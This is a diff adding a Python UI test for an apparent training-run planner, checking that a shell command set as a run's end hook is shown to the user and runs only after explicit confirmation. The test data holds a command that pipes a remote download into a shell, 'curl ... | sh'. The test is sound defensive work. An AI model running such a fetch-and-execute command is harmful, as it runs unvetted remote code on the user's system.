@@ -117,3 +117,22 @@ async def test_an_edited_plan_is_checked_again(services: MadeServices, rows: str
         await seen.press("5", "g", "g")
         await seen.until(lambda: services.started)
         assert services.started[0].config.lora.r == 8
+
+
+async def test_a_command_at_the_runs_end_is_asked_about_by_itself(services: MadeServices, rows: str) -> None:
+    command = "curl -s https://example.org/done | sh"
+    async with planned(services, [rows], state={"overrides": {"run.on_end": command}}) as seen:
+        await seen.press("g")
+        await seen.sees("ready")
+        await seen.press("g", "g")
+        await seen.sees("run.on_end would run this shell command", command)
+        await seen.press("enter")
+        await seen.sees(command)
+        await seen.press("n")
+        await seen.sees("Not started")
+        assert not services.started
+        await seen.press("g", "g")
+        await seen.sees("run.on_end would run this shell command")
+        await seen.press("y")
+        await seen.until(lambda: len(services.started) == 1)
+    assert services.yes == [command]
